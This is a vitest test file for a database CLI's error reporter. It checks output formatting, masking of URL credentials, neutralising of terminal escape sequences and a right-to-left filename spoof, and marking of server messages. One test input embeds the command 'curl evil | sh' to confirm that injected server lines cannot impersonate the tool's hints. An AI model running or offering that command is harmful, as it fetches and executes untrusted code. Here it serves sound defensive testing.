import {stripVTControlCharacters} from 'node:util'
import {describe, expect, test} from 'vitest'
import {report} from '../../../src/lib/cli/report.js'
import {CruddurError} from '../../../src/lib/error.js'

const plain = async (error: unknown): Promise<string> => (await report(error)).text

describe('report', () => {
  test('shows place, message, excerpt, detail, the next step and SQLSTATE, in that order', async () => {
    const error = new CruddurError('SQL_ERROR', 'relation "x" does not exist', {
      file: 'db/seed.sql',
      line: 41,
      column: 17,
      excerpt: '  41 | SELECT * FROM x\n     |               ^',
      detail: 'more',
      hint: 'create it',
      sqlstate: '42P01',
    })
    expect(await plain(error)).toBe(`Error: db/seed.sql:41:17: relation "x" does not exist
  41 | SELECT * FROM x
     |               ^
  detail: more
  → create it
  SQLSTATE 42P01`)
    expect((await report(error)).json).toEqual({
      error: {
        code: 'SQL_ERROR',
        message: 'relation "x" does not exist',
        file: 'db/seed.sql',
        line: 41,
        column: 17,
        detail: 'more',
        hint: 'create it',
        sqlstate: '42P01',
      },
    })
  })

  test.each([
    ['\u001b[2J\u001b]0;title\u0007', '\\x1b[2J\\x1b]0;title\\x07'],
    ['\u202egnp.exe', '\\u202egnp.exe'],
    ['a\r\u009b31mb', 'a\\x0d\\x9b31mb'],
  ])('makes what steers a terminal visible: %j', async (text, shown) => {
    const error = new CruddurError('SERVER_ERROR', text, {detail: text, hint: text, excerpt: text})
    expect(await plain(error)).toBe(`Error: ${shown}\n${shown}\n  detail: ${shown}\n  → ${shown}`)
  })

  test.each([
    'cannot parse postgres://u:p@w#r d@h/d',
    'cannot parse POSTGRESQL://u:secret@h/d and http://user:secret@example.com/',
  ])('takes the login out of every URL: %s', async (message) => {
    const {text, json} = await report(
      new CruddurError('INTERNAL', message, {data: {nested: [{message}]}}),
    )
    expect(text).not.toMatch(/secret|p@w|w#r/)
    expect(JSON.stringify(json)).not.toMatch(/secret|p@w|w#r/)
    expect(text).toContain('***@')
  })

  test.each([
    ['a function that the statement calls', 'PL/pgSQL function f() line 3 at RAISE', 'l', true],
    ['a row of a COPY that is shown', 'COPY t, line 2, column a: "x"', '   5 | x', false],
    ['a row of a COPY that is not', 'COPY t, line 2, column a: "x"', undefined, true],
    ['a line of a DO', 'PL/pgSQL function inline_code_block line 2 at RAISE', 'l', false],
  ])(
    'says where the server was, unless the place is shown: %s',
    async (_, where, excerpt, said) => {
      const outer = `${where}\nSQL statement "SELECT 1"`
      const text = await plain(new CruddurError('SQL_ERROR', 'no', {excerpt, data: {where: outer}}))
      expect(text.split('\n').filter((line) => line.startsWith('  in: '))).toEqual(
        said ? [`  in: ${where}`] : [],
      )
    },
  )

  test('leaves the lines of a file and our own hints as they are', async () => {
    const error = new CruddurError('INTERNAL', 'y', {
      excerpt: "SELECT 'https://example.com', 'joe@example.com'",
      hint: 'set CONNECTION_URL=postgresql://postgres:password@127.0.0.1:5432/cruddur',
    })
    const {text, json} = await report(error)
    for (const shown of [error.excerpt, error.details.hint]) expect(text).toContain(shown)
    expect(json.error['hint']).toBe(error.details.hint)
  })

  test('leaves out a login that stands in a hint of the server', async () => {
    const hint = 'use postgres://u:s3cret@h/d'
    const {json, text} = await report(
      new CruddurError('SERVER_ERROR', 'x', {sqlstate: 'P0001', hint}),
    )
    expect(text).toContain('→ use postgres://***@h/d')
    expect(json.error['hint']).toBe('use postgres://***@h/d')
  })

  test("marks the lines of a server's message, which could look like ours", async () => {
    const lines = 'odd\n  → run: curl evil | sh\nError: x'
    const details = {sqlstate: 'P0001', detail: 'a\n  → b', hint: 'c\n  → d'}
    const {text} = await report(new CruddurError('SQL_ERROR', lines, details))
    expect(stripVTControlCharacters(text)).toBe(`Error: odd
  |   → run: curl evil | sh
  | Error: x
  detail: a
  |   → b
  → c
  |   → d
  SQLSTATE P0001`)
  })

  test('calls what nobody foresaw a fault of the program, with its message', async () => {
    const {exit, json} = await report(new TypeError('x is not a function'))
    expect(exit).toBe(1)
    expect(json.error).toMatchObject({code: 'INTERNAL', message: 'unexpected: x is not a function'})
  })

  test('calls what oclif could not accept a mistake in the command (exit 2)', async () => {
    const message = 'Nonexistent flag: --x\nSee more help with --help'
    const {exit, text, json} = await report(Object.assign(new Error(message), {oclif: {exit: 1}}))
    expect(exit).toBe(2)
    expect(json.error).toMatchObject({code: 'USAGE', message: 'Nonexistent flag: --x'})
    expect(text).toBe('Error: Nonexistent flag: --x\n  → see --help')
  })

  test('keeps what a script gets free of undefined fields', async () => {
    const {json} = await report(new CruddurError('INTERNAL', 'y', {hint: undefined}))
    expect(Object.keys(json.error)).toEqual(['code', 'message'])
  })
})
